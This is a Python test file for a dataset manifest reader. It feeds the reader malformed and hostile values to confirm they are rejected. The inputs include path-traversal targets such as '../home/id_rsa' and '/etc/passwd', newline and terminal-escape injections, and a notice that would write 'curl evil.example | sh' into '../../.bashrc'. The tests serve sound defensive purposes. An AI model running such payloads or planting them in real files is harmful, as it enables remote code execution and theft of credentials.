"""A manifest of others, from the Hub or in a folder, cannot name a file outside."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.toy import Toy
from vision_flan.dataset.manifest import Manifest, manifest_path, read_manifest
from vision_flan.dataset.publication import PublishedTask
from vision_flan.errors import Location, VflanError

HERE = Location("manifest/toy_color.json")
OUTSIDE = [
    "../home/id_rsa",
    "/etc/passwd",
    "toy_color/../../x",
    "toy_color\\..\\x",
    "a//b",
    "a/\x1b[2J",
    "",
    7,
]
PUBLISHED = {
    "without shards": {"form": "whole", "license": "yes"},
    "of another type": {"form": "whole", "license": "yes", "shards": 7},
    "with keys of its own": {"form": "whole", "license": "yes", "shards": [], "x": 1},
    "a list": [],
    "outside": {
        "form": "whole",
        "license": "yes",
        "shards": [{"path": "../x.parquet", "rows": 1, "bytes": 1, "sha256": "0"}],
    },
    "in no known form": {"form": "<b>", "license": "yes", "shards": []},
    "with a verdict that is no text": {"form": "whole", "license": 7, "shards": []},
    "with a reason that is no text": {"form": "whole", "license": "no", "reason": ["x"], "shards": []},
    "with images that are no number": {"form": "mixed", "license": "per_image", "images": "7", "shards": []},
    "with rows that are no number": {
        "form": "whole",
        "license": "yes",
        "shards": [{"path": "x.parquet", "rows": "1", "bytes": 1, "sha256": "0"}],
    },
    "with an example that is no text": {
        "form": "whole",
        "license": "yes",
        "shards": [],
        "example": {"path": "gallery/a.jpg", "bytes": 1, "sha256": "0", "id": "a", "prompt": 7, "target": ""},
    },
    **{
        f"with the example {path!r}": {
            "form": "whole",
            "license": "yes",
            "shards": [],
            "example": {"path": path, "bytes": 1, "sha256": "0", "id": "a", "prompt": "", "target": ""},
        }
        for path in ("../x.jpg", "/etc/passwd", 7)
    },
}


@pytest.fixture(scope="module")
def text(tmp_path_factory: pytest.TempPathFactory) -> str:
    toy = Toy(tmp_path_factory.mktemp("toy"))
    toy.compile()
    return manifest_path(toy.out, "toy_color").read_text()


@pytest.fixture
def facts(text: str) -> dict[str, object]:
    found: dict[str, object] = json.loads(text)
    return found


def test_a_manifest_of_ours_is_read(text: str, tmp_path: Path) -> None:
    manifest_path(tmp_path, "toy_color").parent.mkdir()
    manifest_path(tmp_path, "toy_color").write_text(text)
    assert read_manifest(manifest_path(tmp_path, "toy_color")).task == "toy_color"


@pytest.mark.parametrize("path", OUTSIDE)
def test_a_shard_does_not_lie_outside(facts: dict[str, object], path: object) -> None:
    shards = facts["shards"]
    assert isinstance(shards, list)
    shards[0]["path"] = path
    for read in (Manifest.from_json, PublishedTask.from_json):
        with pytest.raises(VflanError, match="not a manifest"):
            read(json.dumps(facts), HERE)


@pytest.mark.parametrize("task", ["../home", "/etc", ".", "..", "a/b", "a\nb", ""])
def test_a_task_is_no_path(facts: dict[str, object], task: str) -> None:
    with pytest.raises(VflanError, match="is not a task id"):
        Manifest.from_json(json.dumps({**facts, "task": task}), HERE)


@pytest.mark.parametrize("attempt", PUBLISHED)
def test_a_published_block_is_refused(facts: dict[str, object], attempt: str, tmp_path: Path) -> None:
    with pytest.raises(VflanError):
        PublishedTask.from_json(json.dumps({**facts, "published": PUBLISHED[attempt]}), HERE)


#: Where a value stands, and what stands there instead.
OTHERS: dict[str, tuple[str, object]] = {
    "a dataset that is a path": ("dataset", "../../etc"),
    "a dataset that ends its line": ("dataset", "a`\n# Injected"),
    "a split that is a pattern": ("split", "*"),
    "a split that is a path": ("split", "../train"),
    "a notice in another folder": ("notices", {"../../.bashrc": "curl evil.example | sh"}),
    "a notice in a folder": ("notices", {"a/b": "text"}),
    "a hidden notice": ("notices", {".bashrc": "text"}),
    "a notice that is no text": ("notices", {"LICENSE": 7}),
    "notices that are a list": ("notices", ["LICENSE"]),
    "a title that is a list": ("title", ["a"]),
    "an alias that is a number": ("alias", 7),
    "half a character": ("title", "\ud800"),
    "a seed that is a text": ("seed", "7"),
    "a seed that is true": ("seed", True),
    "a seed of 40 digits": ("seed", 10**40),
    "a limit that is a text": ("limit", "all"),
    "a size that is a text": ("num_bytes", "7"),
    "raw files that are texts": ("raw_files", ["a"]),
    "contents that are a list": ("contents", []),
    "an attribution that is a text": ("attribution", "x"),
    "an attribution without a size": ("attribution", {"sha256": "x"}),
    "drops that are a list": ("drop_list", ["a"]),
    "suites that are a text": ("suites", "x"),
    "versions that are a list": ("versions", []),
    "no homepage": ("source", {"title": "a", "license": {}}),
    "a homepage that is none": ("source.homepage", None),
    "a license that is a text": ("source.license", "MIT"),
    "languages that are mappings": ("source.languages", [{}]),
    "what is sensitive as a number": ("source.sensitive", 7),
    "a lender that is a text": ("source.sources", ["a"]),
    "a lender without a title": ("source.sources", [{"key": "a", "homepage": "", "license": None}]),
    "a lender whose key is a list": (
        "source.sources",
        [{"key": [], "title": "a", "homepage": "", "license": None}],
    ),
    "a limit of use without a reason": ("source.use", {"train": "forbidden"}),
}


@pytest.mark.parametrize("attempt", OTHERS)
def test_a_manifest_does_not_have(facts: dict[str, object], attempt: str) -> None:
    where, value = OTHERS[attempt]
    *outer, key = where.split(".")
    block = facts[outer[0]] if outer else facts
    assert isinstance(block, dict)
    block[key] = value
    for read in (Manifest.from_json, PublishedTask.from_json):
        with pytest.raises(VflanError, match="not a manifest") as caught:
            read(json.dumps(facts), HERE)
        assert len(str(caught.value)) < 400 and "\x1b" not in str(caught.value)
